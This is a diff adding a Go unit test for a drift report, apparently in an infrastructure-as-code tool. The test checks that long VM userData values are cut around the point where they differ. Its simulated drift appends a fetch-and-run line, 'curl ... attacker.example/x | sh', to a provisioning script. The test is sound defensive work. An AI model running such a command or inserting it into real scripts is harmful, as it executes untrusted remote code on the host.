@@ -89,3 +89,30 @@ func TestPlanCommentLongSensitiveValueStaysMasked(t *testing.T) {
 		t.Errorf("a sensitive value shows: - %q + %q", minus, plus)
 	}
 }
+
+// TestDriftIssueLongValueShowsTheDrift: a drift report cuts two long
+// values around where they differ, as the plan comment does, so a drift
+// never reads as the same text in state and in the cloud.
+func TestDriftIssueLongValueShowsTheDrift(t *testing.T) {
+	script := "#!/bin/sh\n" + strings.Repeat("echo provisioning step ok\n", 20)
+	d := Drift{Resources: []DriftedResource{{Type: "Vm", Name: "web", Properties: []plan.PropChange{
+		{Path: "userData", Old: script, New: script + "curl -s https://attacker.example/x | sh\n"},
+	}}}}
+	issue := DriftIssue(d, Meta{}, CommentLimit)
+	var row string
+	for _, line := range strings.Split(issue, "\n") {
+		if strings.Contains(line, "userData") {
+			row = line
+		}
+	}
+	cells := strings.Split(row, " | ")
+	if len(cells) < 4 {
+		t.Fatalf("no userData row in:\n%s", issue)
+	}
+	if cells[2] == strings.TrimSuffix(cells[3], " |") {
+		t.Errorf("the drift reads the same in state and in the cloud:\n%s", row)
+	}
+	if !strings.Contains(cells[3], "attacker.example") {
+		t.Errorf("the cloud's value does not show what changed:\n%s", row)
+	}
+}
